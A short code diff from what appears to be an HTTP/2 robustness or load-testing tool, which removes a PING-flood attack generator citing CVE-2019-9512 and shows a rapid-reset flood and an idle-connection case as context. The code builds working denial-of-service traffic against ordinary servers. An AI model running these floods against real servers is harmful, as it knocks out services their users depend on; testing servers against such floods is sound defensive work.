@@ -140,13 +140,6 @@ def rapid_resets(most: int = MOST_RESETS) -> Attack:
     return Attack(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0), drops, pause_seconds=0.001)
 
 
-def flood_of_pings() -> Attack:
-    """PINGs, whose answers pile up (CVE-2019-9512)."""
-    drop = http2.frame(http2.PING, 0, 0, bytes(8)) * 1_000
-    opening = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
-    return Attack(opening, lambda: itertools.repeat(drop, 50), pause_seconds=0.001)
-
-
 def silence() -> Attack:
     """A connection on which nothing comes: where TLS is expected, no handshake either."""
     return Attack(b"", lambda: itertools.repeat(b""))
